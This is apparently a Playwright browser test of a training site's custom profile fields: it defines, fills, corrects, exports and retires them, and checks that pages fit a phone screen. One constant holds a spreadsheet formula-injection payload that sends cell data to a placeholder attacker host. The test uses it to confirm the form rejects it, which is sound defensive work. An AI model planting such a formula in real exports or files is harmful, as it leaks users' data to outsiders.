"""Profile fields in real browsers, the whole path an HR office relies on: an administrator defines a staff number
and a grade and reorders them; a learner (phone screen, JavaScript off) fills them on /account, a formula is
refused with its message and nothing saved; the administrator corrects the staff number on the account's page,
exports the completion records (CSV and XLSX, written by the background worker) and finds both columns after the
standard ones; retiring the grade removes its column from new exports and its input from /account. /account (in
English and in Arabic, right to left) and the new administration pages never scroll sideways on a 360 px phone."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.browser.conftest import sign_in

pytestmark = pytest.mark.browser
WIDTH = 360
ADMIN, LEARNER = "root@example.org", "amina@example.org"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
READY = 30_000  # ms the job page may take to say the file is ready (the worker is a thread of this process)


def _accounts(app) -> int:
    """An administrator, and a learner who completed the demo course; returns the learner's id."""
    from greencustoms.auth.service import create_user
    from tests.adminkit import PASSWORD, T0, add_record

    with app.app_context():
        create_user(email=ADMIN, full_name="Ada Admin", password=PASSWORD, role="admin")
        learner = create_user(
            email=LEARNER, full_name="Amina Njoroge", password=PASSWORD, country="KE", organisation="KRA"
        ).id
        add_record(learner, completed=T0, score=90.0)
        return learner


def _stored(app, user_id: int) -> tuple[dict[str, str], str]:
    """The person's profile values by key, and their organisation, as the database holds them."""
    from greencustoms.extensions import db
    from greencustoms.models import ProfileField, ProfileValue, User

    with app.app_context():
        rows = db.session.execute(
            db.select(ProfileField.key, ProfileValue.value)
            .join(ProfileField, ProfileField.id == ProfileValue.field_id)
            .where(ProfileValue.user_id == user_id)
        )
        return {key: value for key, value in rows}, db.session.get(User, user_id).organisation


def _fits(page) -> None:
    width = page.evaluate("() => document.documentElement.scrollWidth")
    assert width <= WIDTH, (page.url, width)


def _listed(admin, *rows: tuple[str, str]) -> None:
    """The profile fields table shows these (label, state) rows, in this order (waits for the page)."""
    from playwright.sync_api import expect

    table = admin.locator("table.data tbody tr")
    expect(table.locator("th")).to_have_text([label for label, _state in rows])
    expect(table.locator("td:nth-of-type(3)")).to_have_text([state for _label, state in rows])


def _admin_page(admin, name: str) -> None:
    """Open an administration page from the header's Admin link and the administration's navigation."""
    from playwright.sync_api import expect

    admin.get_by_role("navigation", name="Main").get_by_role("link", name="Admin", exact=True).click()
    admin.wait_for_url("**/admin/")
    link = admin.get_by_role("navigation", name="Administration").get_by_role("link", name=name)
    link.click()
    expect(link).to_have_attribute("aria-current", "page")  # the page itself, not the one it was opened from


def _export(admin, format_label: str) -> bytes:
    """Prepare a completion export from the exports page, wait on the job page until it is ready, download it."""
    from playwright.sync_api import expect

    _admin_page(admin, "Exports")
    admin.get_by_label("Format").select_option(label=format_label)
    admin.get_by_role("button", name="Prepare the file").click()
    admin.wait_for_url("**/exports/*")
    # The page refreshes itself (a meta refresh) until the worker has written the file.
    expect(admin.get_by_role("status")).to_contain_text("Ready: 1 row.", timeout=READY)
    with admin.expect_download() as info:
        admin.get_by_role("link", name="Download").click()
    return Path(info.value.path()).read_bytes()


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_fields_defined_filled_corrected_exported_and_retired(app, worker, browser, page, live_server):
    """The administrator's and the learner's journeys through profile fields, to the HR office's file."""
    from openpyxl import load_workbook
    from playwright.sync_api import expect

    from greencustoms.exports import COLUMNS

    titles = [str(column.title) for column in COLUMNS]
    learner_id = _accounts(app)
    base = live_server
    context = browser.new_context(java_script_enabled=False, viewport={"width": 1280, "height": 800})
    admin = context.new_page()
    admin.set_default_timeout(15_000)
    try:
        # 1. The administrator defines a choice field and a text field, and puts the staff number first.
        sign_in(admin, base, ADMIN)
        _admin_page(admin, "Profile fields")
        expect(admin.locator("table.data")).to_contain_text("No profile field yet.")
        expect(admin.locator("#key-hint")).to_contain_text("(JSON, API): profile.<key>. Letters")  # as text
        for label, key, kind, options in (
            ("Grade", "grade", "Choice from a list", "Officer\nSenior officer\nChief officer"),
            ("Staff number", "staff_number", "Text", ""),
        ):
            admin.get_by_label("Label", exact=True).fill(label)
            admin.get_by_label("Key", exact=True).fill(key)
            admin.get_by_label("Kind").select_option(label=kind)
            admin.get_by_label("Choices").fill(options)
            admin.get_by_role("button", name="Add field").click()
            expect(admin.locator(".flash-success")).to_contain_text(f"The field “{label}” is added.")
        _listed(admin, ("Grade", "Active"), ("Staff number", "Active"))
        choices = "Choice from a list (Officer, Senior officer, Chief officer)"
        expect(admin.get_by_role("row", name="Grade")).to_contain_text(choices)

        # Hostile: a key already taken is refused next to its input, with 400; nothing is added.
        admin.get_by_label("Label", exact=True).fill("Staff number again")
        admin.get_by_label("Key", exact=True).fill("staff_number")
        with admin.expect_response(lambda r: r.request.method == "POST") as refused:
            admin.get_by_role("button", name="Add field").click()
        assert refused.value.status == 400
        expect(admin.locator("#key-error")).to_contain_text("already has this key")
        assert admin.get_by_label("Label", exact=True).input_value() == "Staff number again"
        _listed(admin, ("Grade", "Active"), ("Staff number", "Active"))

        admin.get_by_role("button", name="Move “Staff number” up").click()
        _listed(admin, ("Staff number", "Active"), ("Grade", "Active"))
        assert admin.get_by_role("button", name="Move “Staff number” up").count() == 0  # it is first now

        # 2. The learner, on a phone with JavaScript off, fills the fields on /account.
        sign_in(page, base, LEARNER)
        page.get_by_role("link", name="Account", exact=True).click()
        group = page.get_by_role("group", name="For your organisation's records")
        expect(group).to_be_visible()
        expect(group.locator("label")).to_have_text(["Staff number", "Grade"])
        _fits(page)

        staff, grade = page.get_by_label("Staff number"), page.get_by_label("Grade")
        staff.fill("9" * 101)
        assert staff.input_value() == "9" * 100  # the input's own limit: nobody types past 100 characters
        # Hostile: a spreadsheet formula as a staff number, with a grade and a new organisation on the same form.
        staff.fill(HOSTILE)
        grade.select_option("Senior officer")
        page.get_by_label("Organisation").fill("Kenya Revenue Authority")
        with page.expect_response(lambda r: r.request.method == "POST") as refused:
            page.get_by_role("button", name="Save", exact=True).click()
        assert refused.value.status == 400
        expect(page.locator("#profile_staff_number-error")).to_contain_text("a spreadsheet would run as a formula")
        assert page.get_by_label("Staff number").get_attribute("aria-invalid") == "true"
        assert page.get_by_label("Staff number").input_value() == HOSTILE  # what was typed, to correct
        assert page.get_by_label("Grade").input_value() == "Senior officer"  # the other inputs are kept
        assert page.get_by_label("Organisation").input_value() == "Kenya Revenue Authority"
        assert _stored(app, learner_id) == ({}, "KRA")  # nothing saved, the good inputs neither
        _fits(page)

        page.get_by_label("Staff number").fill("  KRA-00421 ")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.locator(".flash-success")).to_contain_text("Your profile is saved.")
        page.reload()
        assert page.get_by_label("Staff number").input_value() == "KRA-00421"  # trimmed
        assert page.get_by_label("Grade").input_value() == "Senior officer"
        assert _stored(app, learner_id) == (
            {"staff_number": "KRA-00421", "grade": "Senior officer"},
            "Kenya Revenue Authority",
        )

        # 3. The administrator corrects the staff number on the learner's account page.
        _admin_page(admin, "Accounts")
        admin.get_by_label("Name, e-mail or username").fill("Amina")
        admin.get_by_role("button", name="Show").click()
        admin.wait_for_url("**/admin/users?q=Amina*")
        admin.get_by_role("link", name="Amina Njoroge").click()
        profile = admin.get_by_role("region", name="Profile fields")
        assert profile.get_by_label("Staff number").input_value() == "KRA-00421"
        assert profile.get_by_label("Grade").input_value() == "Senior officer"
        profile.get_by_label("Staff number").fill("KRA-00412")
        profile.get_by_role("button", name="Save profile fields").click()
        expect(admin.locator(".flash-success")).to_contain_text("The profile fields are saved.")
        assert admin.get_by_role("region", name="Profile fields").get_by_label("Staff number").input_value() == (
            "KRA-00412"
        )

        # 4. The completion export, CSV and XLSX: the fields' labels after the standard titles, in their order.
        header, row = _csv(_export(admin, "CSV (Excel)"))
        assert header == [*titles, "Staff number", "Grade"]
        assert row[0] == str(learner_id) and row[1] == "Amina Njoroge"
        assert row[-2:] == ["KRA-00412", "Senior officer"]

        sheet = load_workbook(io.BytesIO(_export(admin, "Excel workbook (XLSX)"))).worksheets[0]
        cells = [[cell.value for cell in line] for line in sheet.iter_rows()]
        assert cells[0] == [*titles, "Staff number", "Grade"]
        assert len(cells) == 2 and cells[1][-2:] == ["KRA-00412", "Senior officer"]

        # 5. Retiring the grade: gone from new exports and from the learner's page; the staff number stays.
        _admin_page(admin, "Profile fields")
        admin.get_by_role("button", name="Retire “Grade”").click()
        expect(admin.locator(".flash-success")).to_contain_text("The field “Grade” is retired; its values are kept.")
        _listed(admin, ("Staff number", "Active"), ("Grade", "Retired"))
        header, row = _csv(_export(admin, "CSV (Excel)"))
        assert header == [*titles, "Staff number"]
        assert row[-1] == "KRA-00412"

        # The administrator's new pages fit a phone too (a wide table scrolls in its own box).
        admin.set_viewport_size({"width": WIDTH, "height": 740})
        admin.goto(f"{base}/admin/users/{learner_id}")
        _fits(admin)
        admin.goto(base + "/admin/profile-fields")
        _fits(admin)
        admin.get_by_role("link", name="Grade", exact=True).click()
        expect(admin.get_by_role("heading", level=1)).to_have_text("Grade")
        _fits(admin)
    finally:
        context.close()

    page.reload()
    group = page.get_by_role("group", name="For your organisation's records")
    expect(group.locator("label")).to_have_text(["Staff number"])
    assert page.get_by_label("Grade").count() == 0
    assert page.get_by_label("Staff number").input_value() == "KRA-00412"  # the administrator's correction
    _fits(page)
    assert _stored(app, learner_id)[0] == {"staff_number": "KRA-00412", "grade": "Senior officer"}  # kept

    # In Arabic, right to left, the fields keep the labels the administrator wrote, and the page still fits.
    page.get_by_label("Preferred language").select_option("ar")
    page.get_by_role("button", name="Save", exact=True).click()
    expect(page.locator("html")).to_have_attribute("dir", "rtl")
    expect(page.get_by_label("Staff number")).to_have_value("KRA-00412")
    _fits(page)
